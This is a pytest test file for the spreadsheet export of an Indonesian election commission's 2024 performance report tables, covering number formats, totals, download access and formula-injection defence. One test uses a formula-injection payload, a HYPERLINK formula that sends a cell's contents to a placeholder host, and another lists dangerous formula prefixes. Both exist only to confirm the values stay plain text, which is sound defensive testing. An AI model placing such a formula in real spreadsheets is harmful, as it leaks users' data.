"""The report's tables as .xlsx: real numeric cells, Indonesian formats, text that stays text."""

import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from kinerja.models import SasaranPK
from laporan.dokumen import build_dokumen
from laporan.ekspor import (
    FORMAT_PERSEN,
    FORMAT_RUPIAH,
    Baris,
    Kolom,
    Tabel,
    TabelTidakDikenal,
    ekspor_tabel,
    write_tabel,
)
from satker.models import Pengguna

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def buka(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def baris_dengan(ws, kolom: int, nilai) -> tuple:
    for row in ws.iter_rows(min_row=4):
        if row[kolom].value == nilai:
            return row
    raise AssertionError(f"tidak ada baris dengan {nilai!r}")


@pytest.fixture
def dokumen(gunung_mas):
    return build_dokumen(satker=gunung_mas, tahun=2024)


def test_tabel_3_7_has_numeric_totals_and_serapan(dokumen):
    ws = buka(ekspor_tabel(dokumen, "3.7"))
    judul = ws["A1"].value
    assert "Tabel 3.7" in judul and "KPU Kabupaten Gunung Mas" in judul and "2024" in judul
    assert ws["A1"].font.bold and "A1:G1" in {str(r) for r in ws.merged_cells.ranges}
    assert [c.value for c in ws[3]] == [
        "No.",
        "Kode",
        "Program",
        "Pagu",
        "Realisasi",
        "Sisa",
        "Serapan (%)",
    ]
    assert all(c.font.bold for c in ws[3]) and ws["D3"].fill.fgColor.rgb.endswith("D9E2F3")
    assert ws.freeze_panes == "A4"

    jumlah = baris_dengan(ws, 0, "Jumlah")
    pagu, realisasi, sisa, serapan = (c.value for c in jumlah[3:7])
    assert (pagu, realisasi, sisa) == (41469966000, 39420682212, 2049283788)
    assert isinstance(pagu, int) and jumlah[3].data_type == "n"
    assert jumlah[3].number_format == FORMAT_RUPIAH
    assert serapan == pytest.approx(95.06) and Decimal(str(serapan)) == Decimal("95.06")
    assert jumlah[6].number_format == FORMAT_PERSEN

    cq = baris_dengan(ws, 1, "076.01.CQ")
    assert [c.value for c in cq[3:5]] == [39196465000, 37185527317]
    assert Decimal(str(cq[6].value)) == Decimal("94.87")
    assert ws.column_dimensions["C"].width >= 40


def test_tabel_3_2_rows_have_capaian_and_kategori(dokumen):
    ws = buka(ekspor_tabel(dokumen, "3.2"))
    kepala = [c.value for c in ws[3]]
    assert kepala[-2:] == ["Capaian (%)", "Kategori"]
    baris = baris_dengan(ws, 0, "2.1")
    assert "Teknis Penyelenggaraan Pemilu" in baris[2].value
    assert baris[4].value == 100 and baris[5].value == 100 and baris[6].value == "%"
    assert baris[7].value == 100 and baris[7].number_format == FORMAT_PERSEN
    assert baris[8].value == "Sangat Baik"
    jumlah_indikator = sum(1 for r in ws.iter_rows(min_row=4) if r[8].value == "Sangat Baik")
    assert jumlah_indikator == dokumen.kinerja.jumlah_indikator_terukur == 10


def test_tabulasi_keeps_missing_years_apart_from_zero(dokumen):
    ws = buka(ekspor_tabel(dokumen, "3.5"))
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=4)]
    b6709 = {r[3]: r for r in rows if r[1] == "6709"}
    assert b6709[2022][4:6] == [750540000, 744049227]
    assert Decimal(str(b6709[2022][6])) == Decimal("99.14")  # printed 99,42 in the source report
    b3355_2022 = next(r for r in rows if r[1] == "3355" and r[3] == 2022)
    assert b3355_2022[4:] == ["—", "—", "—"]  # no budget that year: not 0


@pytest.mark.parametrize(
    "nomor", ["2.1", "2.2", "3.1", "3.2", "3.3", "3.4", "3.5", "3.6", "3.7", "3.8", "anggaran"]
)
def test_every_table_exports_with_a_title(dokumen, nomor):
    ws = buka(ekspor_tabel(dokumen, nomor))
    assert "KPU Kabupaten Gunung Mas" in ws["A1"].value and "2024" in ws["A1"].value
    assert ws.max_row > 4


def test_whole_budget_tree_lists_every_level(dokumen):
    ws = buka(ekspor_tabel(dokumen, "anggaran"))
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=4)]
    assert len(rows) == len(list(dokumen.anggaran.semua())) + 1
    assert {r[1] for r in rows[:-1]} >= {"program", "kegiatan"}
    assert rows[-1][3:5] == [41469966000, 39420682212]


def test_unknown_table_is_refused(dokumen):
    with pytest.raises(TabelTidakDikenal):
        ekspor_tabel(dokumen, "9.9")


def test_text_that_looks_like_a_formula_stays_text(gunung_mas):
    jahat = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
    sasaran = SasaranPK.objects.filter(
        program__perjanjian__satker=gunung_mas, bagian=SasaranPK.Bagian.KINERJA
    ).first()
    sasaran.uraian = jahat
    sasaran.save()
    data = ekspor_tabel(build_dokumen(satker=gunung_mas, tahun=2024), "3.2")
    sel = baris_dengan(buka(data), 2, jahat)[2]
    assert sel.data_type == "s" and sel.quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")


def test_every_dangerous_prefix_is_written_as_a_string():
    awalan = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
    tabel = Tabel("Tabel X", (Kolom("Teks", 10),), tuple(Baris((a,)) for a in awalan))
    data = write_tabel(tabel, satker="KPU Kabupaten Gunung Mas", tahun=2024)
    ws = buka(data)
    assert [ws.cell(row=4 + i, column=1).data_type for i in range(len(awalan))] == ["s"] * 6
    assert ws["A4"].value == "=1+1" and ws["A7"].value == "@SUM(A1)"
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")


URL = "/6210/2024/laporan/tabel/3.2.xlsx"


@pytest.mark.parametrize(
    "peran",
    [
        Pengguna.Peran.OPERATOR,
        Pengguna.Peran.SEKRETARIS,
        Pengguna.Peran.KOMISIONER,
        Pengguna.Peran.ADMIN,
    ],
)
def test_every_role_of_the_satker_downloads(client, gunung_mas, buat_pengguna, peran):
    client.force_login(buat_pengguna(gunung_mas, peran))
    respons = client.get(URL)
    assert respons.status_code == 200 and respons["Content-Type"] == XLSX
    assert respons["Content-Disposition"] == (
        'attachment; filename="LKjIP-KPU-Kabupaten-Gunung-Mas-2024-Tabel-3.2.xlsx"'
    )
    assert "Tabel 3.2" in buka(respons.content)["A1"].value


def test_other_satker_unknown_table_and_anonymous(client, operator, operator_lain):
    assert client.get(URL).status_code == 302  # to the login page
    client.force_login(operator_lain)
    assert client.get(URL).status_code == 404
    client.force_login(operator)
    assert client.get("/6210/2024/laporan/tabel/9.9.xlsx").status_code == 404
    assert client.get("/6210/1999/laporan/tabel/3.2.xlsx").status_code == 404
    anggaran = client.get("/6210/2024/laporan/tabel/anggaran.xlsx")
    assert anggaran["Content-Disposition"].endswith('-2024-Anggaran.xlsx"')


def test_report_page_lists_the_downloads(client, operator):
    client.force_login(operator)
    html = client.get("/6210/2024/laporan/").content.decode()
    assert "Unduh tabel (xlsx)" in html
    assert 'href="/6210/2024/laporan/tabel/3.7.xlsx"' in html
    assert 'href="/6210/2024/laporan/tabel/anggaran.xlsx"' in html
